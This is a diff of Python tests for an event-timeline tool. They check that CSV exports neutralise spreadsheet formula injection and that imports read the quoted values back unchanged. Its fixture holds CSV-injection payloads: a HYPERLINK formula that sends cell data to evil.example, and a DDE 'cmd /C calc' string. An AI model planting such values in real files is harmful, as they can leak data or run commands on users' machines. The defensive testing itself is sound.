@@ -7,11 +7,14 @@ Each refusal is counted per backend; the totals are printed at the end of the te
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import decimal
+import io
 import json
 import math
 import re
+import tempfile
 import tracemalloc
 import uuid
 from collections import Counter
@@ -29,7 +32,14 @@ from hypothesis import strategies as st
 import timeline
 from timeline.cli import main
 from timeline.events import EVENT_FIELDS, event_from_dict, parse_json
-from timeline.io import read_events, write_csv, write_jsonl
+from timeline.io import (
+    SPREADSHEET_STARTS,
+    from_spreadsheet_cell,
+    read_events,
+    spreadsheet_cell,
+    write_csv,
+    write_jsonl,
+)
 from timeline.times import isoformat
 
 from helpers import raw_engine, stored_count
@@ -37,6 +47,9 @@ from strategies import (
     SQL_FRAGMENTS,
     Opaque,
     bad_record_calls,
+    formula_events,
+    formula_text,
+    json_text,
     json_values,
     sql_names,
     sql_text,
@@ -1027,3 +1040,90 @@ def test_an_export_of_large_events_imports_back(db_url: str, tmp_path: Path) -> 
                 (write_csv if fmt == "csv" else write_jsonl)(tl.events(), file)
             read = [e for _, e in read_events(tmp_path / f"export.{fmt}", max_event_bytes=400_000)]
             assert expected == [e.content() for e in read], fmt
+
+
+# -- CSV that spreadsheets open ----------------------------------------------------------------
+
+
+@HYPOTHESIS
+@given(text=formula_text | json_text)
+def test_a_spreadsheet_cell_never_starts_a_formula_and_reads_back(text: str) -> None:
+    """Any text written as a spreadsheet cell starts with no formula character, and reads
+    back as it was, a leading quote included."""
+    cell = spreadsheet_cell(text)
+    assert not cell.startswith(SPREADSHEET_STARTS)
+    assert text == from_spreadsheet_cell(cell)
+
+
+@HYPOTHESIS
+@given(batch=st.lists(formula_events(), max_size=4))
+def test_events_that_start_as_formulas_read_back_from_csv(batch: list[timeline.Event]) -> None:
+    """Events whose actor, incident, targets or data start as a formula (or with a quote)
+    are written as CSV cells a spreadsheet does not run, and read back as equal events."""
+    out = io.StringIO(newline="")
+    write_csv(batch, out)
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+    assert [] == [cell for cell in cells if cell.startswith(SPREADSHEET_STARTS)]
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "events.csv"
+        path.write_text(out.getvalue(), encoding="utf-8", newline="")
+        assert batch == [event for _, event in read_events(path)]
+
+
+FORMULAS = {
+    "actor": '=HYPERLINK("http://evil.example/?"&A1, "details")',
+    "incident": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "targets": ["+1-555-0100", "-2+3", "'s-Hertogenbosch", "'=already quoted"],
+    "data": {"note": "\t=1+1", "other": "\r=2"},
+}
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells of CSV text that a spreadsheet would run as a formula."""
+    return [
+        c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(SPREADSHEET_STARTS)
+    ]
+
+
+def test_csv_outputs_neutralise_formulas_and_import_reads_them_back(
+    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """export, events and report sequence write no cell a spreadsheet would run; an
+    import of the export gives back the same events, the quotes of ``'s-Hertogenbosch``
+    and ``'=already quoted`` included."""
+    monkeypatch.chdir(tmp_path)
+    with timeline.open(db_url) as tl:
+        tl.record(
+            "shootdown",
+            FORMULAS["actor"],
+            "2017-06-18",
+            incident=FORMULAS["incident"],
+            targets=FORMULAS["targets"][:2],
+            data={"key": "=cmd"},
+        )
+        tl.record(
+            "truce",
+            FORMULAS["targets"][2],
+            "2017-06-19",
+            incident=FORMULAS["incident"],
+            targets=FORMULAS["targets"][3:],
+            data=FORMULAS["data"],
+        )
+        expected = [e.content() for e in tl.events()]
+    code, _ = cli("--db", db_url, "export", "-o", "export.csv")
+    exported = Path("export.csv").read_text(encoding="utf-8")
+    code_events, listed = cli("--db", db_url, "events", "--format", "csv")
+    code_report, reported = cli(
+        "--db", db_url, "report", "sequence", "shootdown:data.key", "--format", "csv"
+    )
+    assert (0, 0, 0) == (code, code_events, code_report)
+    assert ([], [], []) == (
+        formula_cells(exported),
+        formula_cells("\n".join(listed)),
+        formula_cells("\n".join(reported)),
+    )
+    assert "'=HYPERLINK" in exported and "'=cmd" in "\n".join(reported)
+    copy = f"sqlite:///{tmp_path / 'copy.db'}"
+    assert 0 == cli("--db", copy, "import", "export.csv")[0]
+    with timeline.open(copy) as tl:
+        assert expected == [e.content() for e in tl.events()]
